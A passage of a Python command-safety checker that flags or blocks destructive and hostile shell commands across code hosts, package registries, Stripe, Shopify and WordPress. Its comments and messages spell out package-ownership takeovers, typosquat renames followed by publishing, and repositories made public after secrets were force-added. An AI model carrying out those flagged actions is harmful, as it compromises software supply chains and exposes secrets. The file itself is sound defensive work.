            return


def _host(a, cmd: Cmd) -> None:
    """gh, glab: repositories, releases, issues, gists, secrets deleted; a repository's visibility changed."""
    tool = cmd.name
    group, verb = (_words(cmd.args, 2) + ["", ""])[:2]
    if group == "api":
        _api(a, cmd, tool)
    elif (group, verb) in _HOST_DELETES and (tool, group) != ("gh", "variable"):
        a.review(_RULE, f"`{tool} {group} {verb}` deletes {_HOST_DELETES[group, verb]} on the host; nothing can "
                        "bring it back. A person should confirm (for a repository, `gh repo archive` is the "
                        "reversible way to retire it)", cmd.node)
    elif (group, verb) == ("cache", "delete") and (_Line(cmd.args).has("", "--all") or _listed(a, cmd, tool, "cache")):
        a.review(_RULE, f"`{tool} cache delete` deletes every Actions cache of the repository (those of every branch "
                        "and workflow); one cache, deleted by key, is rebuilt by the next run, all of them at once "
                        "slow every pipeline until then. A person should confirm", cmd.node)
    elif (group, verb) == ("repo", "edit"):
        for w in option_value(cmd.args, "--visibility"):
            secret = _forced_secret(a.doc.data.decode("utf-8", "replace")) if w.value == "public" and \
                holds(a.doc.data, b"add") else None
            if secret is not None:
                a.block("exfiltration", f"`{tool} repo edit --visibility public` publishes a repository this input has "
                                        f"just forced {secret} into (`git add -f`, past .gitignore): its keys and "
                                        "tokens are out for anyone to copy, for good. Leave secret files out of "
                                        "commits; let the user change who can see the repository", w.node)
                continue
            a.review(_RULE, f"`{tool} repo edit --visibility {w.value or w.text}` changes who can see the repository: "
                            "made public, its code and history may be copied at once and cannot be taken back; made "
                            "private, its stars and watchers are dropped and public forks detached for good", w.node)
    elif (group, verb) == ("repo", "create") and _Line(cmd.args).has("", "--public") and (
            _Line(cmd.args).has("", "--push") or any((v or "").startswith("--source") for v in cmd.values())):
        a.review(_RULE, f"`{tool} repo create --public` with the local repository as its source publishes its code and "
                        "whole history at once; copies cannot be taken back. Create it private, or let the user "
                        "publish it", cmd.node)
    elif (group, verb) == ("pr", "merge") and tool == "gh":
        _admin_merge(a, cmd, tool)
    elif (group, verb) == ("repo", "sync") and _Line(cmd.args).has("", "--force"):
        a.review(_RULE, f"`{tool} repo sync --force` hard-resets the destination branch to the source, dropping its "
                        "own commits (no undo on the remote)", cmd.node)
    # before these handlers the code-host tools were programs no rule knew, whose quoted arguments
    # are judged as commands; a known name loses that, so it is kept here
    as_unknown(a, cmd)


def _listed(a, cmd: Cmd, tool: str, group: str) -> bool:
    """`gh cache list … | xargs gh cache delete`, `for i in $(gh cache list …); do gh cache delete $i; done`,
    `gh cache list … | while read i; do …`: the command deletes each item a listing of the same tool names (one
    narrowed by key or branch picks some caches, and is not counted)."""
    from .infra import _fed_by

    feed = _fed_by(a, cmd)
    if feed is not None:
        return feed.name == tool and _words(feed.args, 2) == [group, "list"] and \
            not option_value(feed.args, "-k", "--key", "-r", "--ref")
    listing = re.compile(rf"\b{tool}\s+{group}\s+list\b(?![^|;&)]*\s(?:-k|--key|-r|--ref)\b)")
    node = cmd.node.parent
    for _ in range(16):  # up to the loop the command is in
        if node is None:
            return False
        if node.type == "for_statement":
            return any(listing.search(a.doc.text(c)) for c in node.named_children if c.type != "do_group")
        if node.type == "while_statement" and node.parent is not None and node.parent.type == "pipeline":
            stages = node.parent.named_children
            at = stages.index(node) if node in stages else 0
            return at > 0 and listing.search(a.doc.text(stages[at - 1])) is not None
        node = node.parent
    return False


def _hub(a, cmd: Cmd) -> None:
    """hub wraps git (`hub push -f` is `git push -f`) and adds `hub delete`, `hub release delete`, `hub api`."""
    first = _words(cmd.args, 2)
    if first[:1] == ["delete"]:
        a.review(_RULE, "`hub delete` deletes the repository with its issues, pull requests and releases on the "
                        "host; nothing can bring it back", cmd.node)
    elif first[:2] == ["release", "delete"]:
        a.review(_RULE, "`hub release delete` deletes the release and its uploaded assets (no undo)", cmd.node)
    elif first[:1] == ["api"]:
        _api(a, cmd, "hub")
    else:
        _git(a, cmd)
    as_unknown(a, cmd)


# -- package registries ------------------------------------------------------------------------------
def _unpublish(a, cmd: Cmd) -> None:
    """npm/pnpm/yarn unpublish: the version is gone for everyone who depends on it, and its number can
    never be published again. npm also takes an unambiguous prefix of a command (`npm unpub`)."""
    verb = next((w for w in cmd.args if w.value and not w.value.startswith("-")), None)
    if verb is not None and len(verb.value or "") >= 3 and "unpublish".startswith(verb.value or "-"):
        a.review(_RULE, f"`{cmd.name} unpublish` removes published versions from the registry: every project that "
                        "depends on them breaks, and the version numbers can never be used again (no undo). "
                        f"`{cmd.name} deprecate` warns users and can be taken back", verb.node)


def _vsce(a, cmd: Cmd) -> None:
    """`vsce unpublish`: the extension leaves the Visual Studio Marketplace with every version, its install count,
    ratings and reviews; users' editors stop getting updates, and a new upload starts from nothing (no undo)."""
    verb = next((w for w in cmd.args if w.value and not w.value.startswith("-")), None)
    if verb is not None and verb.value == "unpublish":
        a.review(_RULE, "`vsce unpublish` removes the extension from the Marketplace with all its versions, installs "
                        "and ratings (no undo); to retire one version publish a fixed one, or ask the user",
                 verb.node)


def _gem(a, cmd: Cmd) -> None:
    verb = next((w for w in cmd.args if w.value and not w.value.startswith("-")), None)
    if verb is not None and verb.value == "yank":
        a.review(_RULE, "`gem yank` removes a published version from the registry for good (it cannot be "
                        "restored, and the version number cannot be pushed again)", verb.node)
    elif verb is not None and verb.value == "owner":
        _owner_dropped(a, cmd)
        pos = positionals(cmd.args, frozenset({"-a", "--add", "-r", "--remove", "-k", "--key", "--host", "--otp"}))
        gem = pos[1].value if len(pos) > 1 and pos[1].value else None
        for w in option_value(cmd.args, "-a", "--add"):
            _owner_added(a, cmd, "gem owner --add", gem, w)
    elif verb is not None and verb.value == "push":
        _squat_published(a, cmd, "gem push")


# -- a package's publishing rights handed on -------------------------------------------------------------------------
# An owner of a package publishes the versions every project depending on it installs and runs. Adding a colleague is
# the maintainers' ordinary work (allowed, as `cargo owner --add bob` was before); adding an account of a domain or
# organisation unrelated to the package's (cloud_admin.stranger: `gem owner acme_client --add x@pkg-mirror.dev`,
# `cargo owner --add github:other-org:team acme-proto`), or adding one and removing another owner in the same input
# (`npm owner add X pkg && npm owner rm alice pkg`: the package taken over), is a backdoor into every user's install
# (persistence, block).
def _owner_added(a, cmd: Cmd, shown: str, package: str | None, who: Word) -> None:
    from ..cloud_admin import org_words, stranger

    account = who.value if who.value is not None else who.text
    outsider = stranger(account, org_words(package)) if package and who.value else None
    removed = _owner_removed(a, cmd, package)
    if outsider is not None or removed is not None:
        why = f"{account} belongs to {outsider}, not to the package's organisation" if outsider else \
            f"the same input removes the owner {removed}: the package changes hands"
        a.block("persistence", f"`{shown}` gives {account} the right to publish {package or 'the package'} ({why}); "
                               "every project that installs it would then run what that account publishes. Let the "
                               "package's maintainers hand out ownership", who.node)


def _owner_change(c: Cmd, verb: str) -> tuple[str, str | None] | None:
    """(account, package) when `c` adds (`verb` "add") or removes ("rm") a package's owner, else None."""
    vals = [w.value for w in c.args]
    if c.name in ("npm", "pnpm", "yarn"):
        if vals[:1] in (["owner"], ["author"]) and len(vals) > 2 and (vals[1] == verb or verb == "rm" and
                                                                      vals[1] == "remove"):
            return vals[2] or "another account", vals[3] if len(vals) > 3 else None
        return None
    if c.name in ("gem", "cargo") and vals[:1] == ["owner"]:
        opts = ("-a", "--add") if verb == "add" else ("-r", "--remove")
        who = next((w.value or w.text for w in option_value(c.args, *opts)), None)
        if who is None:
            return None
        pos = positionals(c.args[1:], frozenset({"-a", "--add", "-r", "--remove", "-k", "--key", "--host", "--otp",
                                                 "--index", "--registry", "--token"}))
        return who, pos[0].value if pos else None
    return None


def _owner_removed(a, cmd: Cmd, package: str | None, verb: str = "rm") -> str | None:
    """An owner another command of this input (before this one) removes from the same package (`npm owner rm alice
    pkg`), or with `verb` "add", adds to it."""
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c is cmd or c.node.start_byte >= cmd.node.start_byte:
            continue
        got = _owner_change(c, verb)
        if got is not None and (package is None or got[1] is None or got[1] == package):
            return got[0]
    return None


def _owner_dropped(a, cmd: Cmd) -> None:
    """`npm owner add X pkg && npm owner rm alice pkg`: judged at the removal, the second half of the hand-over."""
    got = _owner_change(cmd, "rm")
    if got is None:
        return
    added = _owner_removed(a, cmd, got[1], "add")
    if added is not None:
        a.block("persistence", f"`{cmd.name} owner` removes {got[0]} from {got[1] or 'the package'} after this input "
                               f"made {added} an owner: the package changes hands, and every project that installs it "
                               "would run what the new owner publishes. Let the package's maintainers hand out "
                               "ownership", cmd.node)


def _npm_owner(a, cmd: Cmd) -> None:
    _owner_dropped(a, cmd)
    vals = [w.value for w in cmd.args]
    if vals[:1] not in (["owner"], ["author"]) or vals[1:2] != ["add"] or len(cmd.args) < 3:
        if vals[:1] == ["publish"]:
            _squat_published(a, cmd, f"{cmd.name} publish")
        return
    package = vals[3] if len(vals) > 3 else None
    _owner_added(a, cmd, f"{cmd.name} owner add", package, cmd.args[2])


def _cargo(a, cmd: Cmd) -> None:
    vals = [w.value for w in cmd.args]
    if vals[:1] == ["publish"]:
        _squat_published(a, cmd, "cargo publish")
    if vals[:1] != ["owner"]:
        return
    _owner_dropped(a, cmd)
    pos = positionals(cmd.args[1:], frozenset({"-a", "--add", "-r", "--remove", "--index", "--registry", "--token"}))
    crate = pos[0].value if pos else None
    for w in option_value(cmd.args, "-a", "--add"):
        for part in (w.value or "").split(","):
            _owner_added(a, cmd, "cargo owner --add", crate, Word(w.node, part.strip(), w.text) if w.value else w)


# -- a package renamed to a look-alike and published ----------------------------------------------------------------
# `sed -i 's/"name": "@acme\/ui-kit"/"name": "acme-ui-kiit"/' package.json && npm publish`, `sed -i 's/^name =
# "requests-toolbelt"/name = "requests-toolbeIt"/' pyproject.toml && twine upload dist/*`: the project published under
# a name one slip from a much-installed package's or from its own, to catch mistyped installs (typosquat.py).
_MANIFESTS = {"package.json": "npm", "pyproject.toml": "pypi", "setup.cfg": "pypi", "setup.py": "pypi",
              "Cargo.toml": "cargo", "*.gemspec": "gem"}
_NAME_SIDE = re.compile(r"""^\^?\s*["']?name["']?\s*[:=]\s*["']?(.*?)["']?\s*,?\s*\$?$""")


def _sed_sub(script: str) -> tuple[str, str] | None:
    """The pattern and replacement of a sed `s` command (any delimiter), escapes of the delimiter and
    of `.` taken off."""
    script = script.strip()
    if len(script) < 4 or script[0] != "s" or script[1].isalnum() or script[1] in "\\\n":
        return None
    d, parts, cur, i = script[1], [], "", 2
    while i < len(script):
        ch = script[i]
        if ch == "\\" and i + 1 < len(script):
            nxt = script[i + 1]
            cur += nxt if nxt in (d, ".", "/") else ch + nxt
            i += 2
            continue
        if ch == d:
            parts.append(cur)
            cur = ""
        else:
            cur += ch
        i += 1
    return (parts[0], parts[1]) if len(parts) == 2 else None


def renamed_to_lookalike(a) -> tuple[str, str, str, object] | None:
    """(old name, new name, the name it imitates, node) of a manifest's `name` this input's `sed -i` changes to a
    look-alike, else None."""
    from ..typosquat import NPM, PYPI, imitated, near

    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.name not in ("sed", "gsed"):
            continue
        files = [w.value.rsplit("/", 1)[-1] for w in positionals(c.args, frozenset({"-e", "--expression", "-f"}))
                 if w.value]
        eco = next((_MANIFESTS[f] for f in files if f in _MANIFESTS), "gem" if any(
            f.endswith(".gemspec") for f in files) else None)
        if eco is None:
            continue
        for w in option_value(c.args, "-e", "--expression") or positionals(c.args, frozenset({"-f"}))[:1]:
            sides = _sed_sub(w.value or "")
            found = [_NAME_SIDE.match(x) for x in sides] if sides else []
            if len(found) != 2 or None in found:
                continue
            old, new = found[0].group(1), found[1].group(1)  # type: ignore[union-attr]
            if not new or old == new:
                continue
            ecosystem = PYPI if eco == "pypi" else NPM
            like = imitated(new, ecosystem) if eco in ("pypi", "npm") else None
            if like is None:
                like = near(new, old, ecosystem)
            if like is not None:
                return old, new, like, w.node
    return None


def _squat_published(a, cmd: Cmd, shown: str) -> None:
    if not holds(a.doc.data, b"sed") or not holds(a.doc.data, b"name"):
        return
    found = renamed_to_lookalike(a)
    if found is not None:
        old, new, like, _ = found
        a.block("persistence", f"`{shown}` publishes the project renamed from {old} to {new}, one slip from the "
                               f"package `{like}`: a look-alike name catches the installs of those who mistype it, and "
                               "runs its install hooks on their machines; publish under the project's own name",
                cmd.node)


def _upload(a, cmd: Cmd) -> None:
    """twine, flit, poetry, uv, hatch: a Python package published."""
    vals = [w.value for w in cmd.args]
    if cmd.name == "twine" and vals[:1] == ["upload"] or cmd.name in ("poetry", "uv", "flit", "hatch", "pdm") and \
            vals[:1] == ["publish"] or cmd.name == "python" and vals[:3] == ["-m", "twine", "upload"]:
        _squat_published(a, cmd, f"{cmd.name} {' '.join(v or '' for v in vals[:1])}".strip())


# -- a depot's history, a registry's signatures, a service's revocations (session 20) --------------------------------
_P4_GLOBAL_ARG = frozenset({"-b", "-c", "-C", "-d", "-H", "-L", "-p", "-P", "-Q", "-r", "-u", "-v", "-x", "-z"})


def _p4(a, cmd: Cmd) -> None:
    """`p4 obliterate -y //depot/...`: the files and every revision of them removed from the depot (a `p4 delete` is
    one more revision, which `p4 undo` takes back). Without -y obliterate only lists what it would remove."""
    pos = positionals(cmd.args, _P4_GLOBAL_ARG)
    if not pos or pos[0].value != "obliterate":
        as_unknown(a, cmd)
        return
    rest = cmd.args[cmd.args.index(pos[0]) + 1:]
    if any(w.value is not None and w.value.startswith("-") and not w.value.startswith("--") and "y" in w.value
           for w in rest):
        a.review(_RULE, "`p4 obliterate -y` removes the files and every revision of them from the depot, with no "
                        "undo (a `p4 delete` keeps the history). Run it without -y to list what it would remove, and "
                        "let the depot's administrator run it", cmd.node)
    as_unknown(a, cmd)


_COSIGN_ARG = frozenset({"--type", "--registry-username", "--registry-password", "--registry-token", "--k8s-keychain",
                         "--attachment-tag-prefix", "--timeout", "-t", "--output-file"})


def _cosign(a, cmd: Cmd) -> None:
    """`cosign clean --type all IMAGE`: the signatures, attestations and SBOMs attached to the image deleted from the
    registry; every verification of the image fails from then on, and the attestations cannot be made again for a
    build that is gone. An image on this machine's registry (a test's `localhost:5000`) is the tester's own."""
    pos = positionals(cmd.args, _COSIGN_ARG)
    if not pos or pos[0].value != "clean":
        as_unknown(a, cmd)
        return
    images = pos[1:]
    if images and all(w.value is not None and _local_image(w.value) for w in images):
        return
    kind = next((w.value for w in option_value(cmd.args, "--type") if w.value), "all")
    a.review(_RULE, f"`cosign clean` deletes the {'signatures, attestations and SBOMs' if kind == 'all' else kind + 's'} "
                    "attached to the image in the registry: every verification of it fails from then on, and what "
                    "attested its build cannot be made again (no undo). Let the image's maintainers run it", cmd.node)
    as_unknown(a, cmd)


def _local_image(ref: str) -> bool:
    from ..hosts import loopback

    host = ref.split("/", 1)[0] if "/" in ref else ""
    return bool(host) and loopback(host.rsplit(":", 1)[0] if host.count(":") == 1 else host)


# AWS calls that revoke a certificate for good (`--new-status INACTIVE` can be set back to ACTIVE; REVOKED cannot)
_AWS_REVOKES = {("iot", "update-certificate"): "revokes the device certificate: AWS IoT never lets it be activated "
                                               "again, and every device using it is cut off until it gets a new one",
                ("acm-pca", "revoke-certificate"): "revokes the certificate at the private CA: every client that "
                                                   "checks revocation refuses it from then on, for good"}


def _aws_revoke(a, cmd: Cmd) -> None:
    from .infra import _AWS_ARG

    path = tuple(w.value for w in positionals(cmd.args, _AWS_ARG)[:2])
    loss = _AWS_REVOKES.get(path)  # type: ignore[arg-type]
    if loss is None:
        return
    if path[0] == "iot" and not any((w.value or "").upper() == "REVOKED" for w in option_value(cmd.args, "--new-status")):
        return
    a.review(_RULE, f"`aws {' '.join(path)}` {loss} (no undo); set the certificate INACTIVE if it only has to stop "
                    "working for now, and let a person revoke it", cmd.node)


# -- payments and shops: live money, customers and storefronts (session 20) -----------------------------------------
# The Stripe CLI acts on test data unless given `--live` (or a live key): test objects are made and deleted by the
# hundred while a shop is built, and are left alone. On live data a deleted customer (with their saved cards), a
# webhook endpoint or a product cannot be restored, and a refund or payout has sent money that does not come back
# (item_loops.stripe_loss, which the SDK rules read too).
_STRIPE_ARG = frozenset({"--api-key", "--project-name", "-p", "--device-name", "--config", "--log-level", "--color",
                         "--stripe-account", "--stripe-version", "-d", "--data", "-e", "--expand", "-i",
                         "--idempotency", "--limit", "--starting-after", "--ending-before"})
# `stripe delete /v1/…`, `stripe post /v1/refunds`: the API called by path (the operations item_loops.stripe_loss reads)
_STRIPE_HTTP_LOSS = re.compile(r"^/?v1/(?:refunds|payouts|transfers)/?$|/detach/?$")


def _stripe(a, cmd: Cmd) -> None:
    from ..item_loops import stripe_loss, stripe_resource

    keys = [w.value or w.text for w in option_value(cmd.args, "--api-key")]
    keys += [w.value or w.text for n, w in cmd.assigns if n == "STRIPE_API_KEY"]
    live = "--live" in cmd.values() or any("_live_" in k or re.search(r"(?i)live|prod", k) for k in keys)
    pos = [w.value for w in positionals(cmd.args, _STRIPE_ARG)[:3]]
    if live and pos:
        shown = None
        if pos[0] == "delete" and len(pos) > 1:  # `stripe delete /v1/customers/cus_x`: the API called by path
            shown = f"stripe delete {pos[1] or '…'}"
        elif pos[0] == "post" and len(pos) > 1 and pos[1] and _STRIPE_HTTP_LOSS.search(pos[1].split("?")[0]):
            shown = f"stripe post {pos[1]}"
        elif len(pos) > 1 and pos[0] is not None and pos[1] is not None and \
                stripe_loss(stripe_resource([pos[0]]), pos[1]) is not None:
            shown = f"stripe {pos[0]} {pos[1]}"
        if shown is not None:
            a.review(_RULE, f"`{shown} --live` acts on the live Stripe account: deleted customers, endpoints and "
                            "products cannot be restored, and refunded or paid-out money does not come back (no "
                            "undo). Try it without --live (test mode) and let the user run it on live data", cmd.node)
    as_unknown(a, cmd)


_SHOPIFY_ARG = frozenset({"-s", "--store", "-t", "--theme", "--path", "--password", "--environment", "-e"})


def _shopify(a, cmd: Cmd) -> None:
    """`shopify theme delete -t ID`: the theme and the merchant's customisations of it deleted from the store (the
    admin has no trash for themes). `--development` alone deletes the CLI's own development theme, which `shopify
    theme dev` makes again."""
    pos = [w.value for w in positionals(cmd.args, _SHOPIFY_ARG)[:2]]
    if pos == ["theme", "delete"] and (option_value(cmd.args, "-t", "--theme") or not _flag_given(
            cmd, "-d", "--development")):
        a.review(_RULE, "`shopify theme delete` deletes the theme from the store with its settings and the "
                        "merchant's customisations (no trash, no undo); `shopify theme pull` a copy first and let the "
                        "store's owner delete it", cmd.node)
    as_unknown(a, cmd)


def _flag_given(cmd: Cmd, *names: str) -> bool:
    return any(v is not None and (v in names or v.split("=", 1)[0] in names) for v in cmd.values())


# WP-CLI: a site reached through an alias (`wp @staging …`, `@prod`, `@all`), over SSH (`--ssh=host`) or by a URL of
# another machine is a shared one; there a post or comment deleted with --force skips the trash, and users, terms and
# sub-sites have no trash at all. The developer's own site (no alias, `@local`, `@dev`, a `.test` URL) is left alone:
# emptying it is the ordinary loop.
_WP_FORCED = frozenset({"post", "comment"})
_WP_GONE = frozenset({"user", "term", "site", "menu"})
_WP_WIPES = {("db", "drop"): "drops the site's database", ("db", "reset"): "drops every table of the site's database",
             ("db", "clean"): "drops the site's tables", ("site", "empty"): "deletes every post, comment and term of "
                                                                          "the site"}


def _wp_remote(cmd: Cmd) -> str | None:
    """The shared site the command reaches, as written (`@staging`, `--ssh=web1`), or None for this machine's."""
    from .. import sql
    from ..hosts import loopback, url_host

    for w in cmd.args:
        v = w.value
        if v is None:
            continue
        if v.startswith("@") and len(v) > 1 and not sql.throwaway_name(v[1:]):
            return v
        key, eq, val = v.partition("=")
        if eq and key == "--ssh" and val:
            return val
        if eq and key == "--url" and val:
            host = url_host(val) or ""
            if host and not loopback(host) and not host.endswith((".test", ".local", ".localhost", ".example")) \
                    and "." in host and not sql.throwaway_name(host.split(".")[0]):
                return val
    return None


def _wp(a, cmd: Cmd) -> None:
    where = _wp_remote(cmd)
    if where is not None:
        pos = [w.value for w in positionals(cmd.args, frozenset({"--url", "--path", "--ssh", "--http", "--user"}))
               if not (w.value or "").startswith("@")][:3]
        shown = None
        if tuple(pos[:2]) in _WP_WIPES:
            shown, lost = f"wp {pos[0]} {pos[1]}", _WP_WIPES[pos[0], pos[1]]  # type: ignore[index]
        elif len(pos) > 1 and pos[1] == "delete" and (pos[0] in _WP_GONE or pos[0] in _WP_FORCED and
                                                       _flag_given(cmd, "--force")):
            shown = f"wp {pos[0]} delete"
            lost = f"deletes the {pos[0]}s it names for good (no trash to restore them from)"
        elif pos[:2] == ["db", "query"]:
            _wp_sql(a, cmd, where)
        if shown is not None:
            a.review(_RULE, f"`{shown}` {lost} on {where}, a site other than this machine's (no undo); export "
                            "what it deletes first (`wp db export`) and let the site's owner run it", cmd.node)
    as_unknown(a, cmd)


def _wp_sql(a, cmd: Cmd, where: str) -> None:
    from .. import sql

    for w in positionals(cmd.args, frozenset({"--url", "--path", "--ssh", "--http", "--user"}))[3:4]:
        text = w.value if w.value is not None else w.text
        found = sql.loss(text)
        table = sql.bulk_delete(text) if found is None else None
        if found is not None or table is not None:
            what = found.statement() if found is not None else f"DELETE FROM {table} WHERE …"
            a.review(_RULE, f"`wp db query` runs {what} on the database of {where}, a site other than this "
                            "machine's: the rows it deletes are gone (no undo); export them first (`wp db export`) "
                            "and let the site's owner run it", w.node)


HANDLERS: dict = {
    "git": [_git], "hub": [_hub], "gh": [_host], "glab": [_host],
    **{n: [_unpublish, _npm_owner] for n in ("npm", "pnpm", "yarn")}, "gem": [_gem], "cargo": [_cargo],
    "vsce": [_vsce],
    **{n: [_upload] for n in ("twine", "flit", "poetry", "uv", "hatch", "pdm")},
    "p4": [_p4], "cosign": [_cosign], "aws": [_aws_revoke], "stripe": [_stripe], "shopify": [_shopify], "wp": [_wp],
}

# What the git checks above read, found in the command text (quotes and backslashes removed): options
# that force, discard or expire (`--force-with-lease`, `--force-if-includes` alone send nothing on), a
# short-flag cluster with `f`, the subcommands and verbs held whatever their options; with a
# `push`, also `-d` and `+x`/`:x` refspecs; with a `checkout`, also `--` and whole-tree, directory
# and glob pathspecs. `git status/log/diff/add/commit`, `git push origin x` keep the shortcut.
_GIT_ANY = re.compile(WORD_START + r"(?:" + SHORT_CLUSTER + r"f|(?:restore|prune|clear|drop)" + WORD_END + ")")
_GIT_LONG = re.compile(WORD_START + r"--([a-z-]{2,})(?=[=\s|&;<>()`$]|$)")
_GIT_PUSH = re.compile(WORD_START + r"(?:" + SHORT_CLUSTER + r"d|[+:])")
_GIT_CHECKOUT = re.compile(WORD_START + r"(?:--" + WORD_END + r"|(?:\.|\.\.|\./|\.\./)" + WORD_END + r"|:)|[*?\[]|/"
                           + WORD_END)


def _git_screen(text: str) -> bool:
    return bool(_GIT_ANY.search(text) or "--" in text and any(
        h.startswith(m.group(1)) for m in _GIT_LONG.finditer(text) for h in _HELD_LONG)
        or "push" in text and _GIT_PUSH.search(text) or "checkout" in text and _GIT_CHECKOUT.search(text)
        or "remote." in text.lower())


_UNPUBLISH = re.compile(WORD_START + r"unp[a-z]*" + WORD_END)
# gh, glab and hub have no screen: they are always judged (their quoted arguments are read as commands)
_PUBLISHED = mentions("publish", "upload", "push")
SCREENS: dict = {
    "git": _git_screen,
    **dict.fromkeys(("npm", "pnpm", "yarn"), lambda text: bool(_UNPUBLISH.search(text)) or "owner" in text or
                    "author" in text or "publish" in text and "sed" in text),
    "gem": mentions("yank", "owner", "push"), "cargo": mentions("owner", "publish"), "vsce": mentions("unpublish"),
    **dict.fromkeys(("twine", "flit", "poetry", "uv", "hatch", "pdm"), _PUBLISHED),
}
# the programs of session 20 were programs no rule knew, whose quoted arguments are judged as commands (as_unknown
# above keeps that): their screens also send on what the shortcut sends on for such a program (an operator or
# expansion in the text, an argument naming a program some rule judges)
_HANDED_CHARS = re.compile(r"[|;&<>$`(\n]")
_TOKEN = re.compile(r"[^\s|&;<>()`$'\"]+", re.ASCII)


def _or_handed(check):
    def screen(text: str) -> bool:
        if check(text) or _HANDED_CHARS.search(text):
            return True
        from .commands import base_name
        from .fastpath import known_runners

        runners = known_runners()
        tokens = _TOKEN.findall(text)[1:]
        return not runners.isdisjoint(tokens) or any(base_name(t) in runners for t in tokens if "/" in t or
                                                     t[-1:].isdigit() or t[-1:] == ".")
    return screen


SCREENS.update({
    "p4": _or_handed(mentions("obliterate")), "cosign": _or_handed(mentions(words=("clean",))),
    "aws": mentions("REVOKED", "revoked", "revoke-certificate"),
    "stripe": _or_handed(mentions("--live", "live", "prod", fold=True)),
    "shopify": _or_handed(mentions("delete")), "wp": _or_handed(mentions("delete", "drop", "reset", "clean", "empty",
                                                                         "query")),
})

